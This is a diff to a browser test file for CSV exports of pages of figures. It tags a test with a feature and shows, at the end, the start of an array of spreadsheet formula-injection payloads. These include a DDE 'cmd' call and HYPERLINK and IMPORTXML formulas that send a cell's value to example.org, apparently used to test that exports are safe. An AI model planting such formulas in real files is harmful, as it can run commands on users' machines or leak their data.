@@ -1,4 +1,5 @@
 import { csvRows, exported, openWhole, said, installed, workbookOf } from './exported.ts';
+import { ofFeature } from './addresses.ts';
 import { expect, test } from './test.ts';
 
 /** Pages of figures whose first card is a total of money, with the heading of the table of key figures. */
@@ -16,16 +17,20 @@ const PAGES = [
 test.describe.configure({ timeout: 180_000 });
 
 for (const path of PAGES)
-  test(`${path}: the file of the whole page has the total of its first card, all rows, and closes with what it lacks`, async ({ page }) => {
-    await openWhole(page, path);
-    const card = page.getByRole('article').first().locator('p[title]').first();
-    const shown = (await card.getAttribute('title'))?.replace(/\D/g, '');
-    const { path: file, name } = await exported(page, 'csv');
-    const rows = await csvRows(file);
-    expect(rows[rows.findIndex(([first]) => first === 'Angka pokok') + 2]?.[1]).toBe(shown);
-    expect(name).not.toContain('INCOMPLETE');
-    expect(rows.flat().filter((text) => text.startsWith('INCOMPLETE'))).toEqual([]);
-  });
+  test(
+    `${path}: the file of the whole page has the total of its first card, all rows, and closes with what it lacks`,
+    ofFeature(path),
+    async ({ page }) => {
+      await openWhole(page, path);
+      const card = page.getByRole('article').first().locator('p[title]').first();
+      const shown = (await card.getAttribute('title'))?.replace(/\D/g, '');
+      const { path: file, name } = await exported(page, 'csv');
+      const rows = await csvRows(file);
+      expect(rows[rows.findIndex(([first]) => first === 'Angka pokok') + 2]?.[1]).toBe(shown);
+      expect(name).not.toContain('INCOMPLETE');
+      expect(rows.flat().filter((text) => text.startsWith('INCOMPLETE'))).toEqual([]);
+    },
+  );
 
 const PAYLOADS = [
   ...['=1+1', "=cmd|'/C calc'!A0", '=HYPERLINK("http://example.org?x="&A1,"klik")', '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")'],
